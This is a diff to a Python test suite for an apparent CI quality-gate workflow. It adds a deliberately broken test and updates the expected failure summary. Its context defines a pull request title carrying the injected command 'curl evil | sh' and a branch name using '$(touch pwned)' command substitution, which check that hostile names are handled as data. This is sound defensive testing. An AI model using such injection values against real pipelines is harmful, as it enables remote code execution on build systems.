@@ -134,6 +134,12 @@ def describe(value: int) -> str:
     return "positive"
 '''
 
+BROKEN_TEST = """
+
+def test_broken():
+    assert add(1, 1) == 3
+"""
+
 HOSTILE_TITLE = '"; curl evil | sh; echo "'
 HOSTILE_BRANCH = "$(touch pwned)"
 
@@ -234,7 +240,7 @@ def test_starter_workflow_fails_a_bad_pull_request_and_treats_hostile_names_as_d
     target.branch("feature/x")
     target.commit(
         "added stuff",
-        {"src/calc/__init__.py": BAD_CALC},
+        {"src/calc/__init__.py": BAD_CALC, "tests/test_calc.py": TESTS + BROKEN_TEST},
     )
     payload = target.pull_request(title=HOSTILE_TITLE, head_ref=HOSTILE_BRANCH)
     # A `curl` first on PATH that leaves a mark if anything ever runs it.
@@ -296,7 +302,8 @@ def test_starter_workflow_fails_a_bad_pull_request_and_treats_hostile_names_as_d
         "## trunkgate: ❌ failed (branch commits changelog lint security coverage)\n"
     ), summary
     for job in GATE_JOBS.values():
-        assert f"| {job} | ❌ failed |" in summary, (job, summary)
+        verdict = "❌ tests failed, coverage failed" if job == "Tests and coverage" else "❌ failed"
+        assert f"| {job} | {verdict} |" in summary, (job, summary)
     [verdict] = [a for a in annotations_of(run, "Summary") if a["level"] == "error"]
     assert verdict["message"].startswith("quality gates failed: branch commits")
 
